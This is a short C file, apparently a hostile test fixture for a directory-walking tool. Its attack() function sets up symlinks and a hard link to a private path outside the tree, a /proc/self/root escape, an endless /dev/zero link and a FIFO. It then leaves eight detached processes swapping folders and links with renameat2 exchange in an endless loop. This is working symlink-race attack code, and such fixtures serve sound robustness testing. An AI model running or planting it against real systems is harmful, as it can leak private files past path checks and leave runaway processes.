// Changes folders into links and back while somebody may be looking through them, and is still at it when it ends.
#include "hostile.h"

static void attack(void) {
    mkdir("folder", 0755);
    close(open("folder/file", O_WRONLY | O_CREAT, 0644));
    symlink(OUTSIDE, "link");
    symlink(OUTSIDE "/private", "private");
    symlink("/proc/self/root" OUTSIDE "/private", "through");
    link(OUTSIDE "/private", "second name");
    symlink("/dev/zero", "endless");
    mkfifo("pipe", 0666);
    for (int child = 0; child < 8; child++) {
        if (fork() != 0) continue;
        setsid();
        if (fork() != 0) _exit(0);
        for (;;) {
            syscall(SYS_renameat2, AT_FDCWD, "folder", AT_FDCWD, "link", 2 /* exchange */);
            syscall(SYS_renameat2, AT_FDCWD, "private", AT_FDCWD, "folder/file", 2);
        }
    }
    usleep(300000);
}
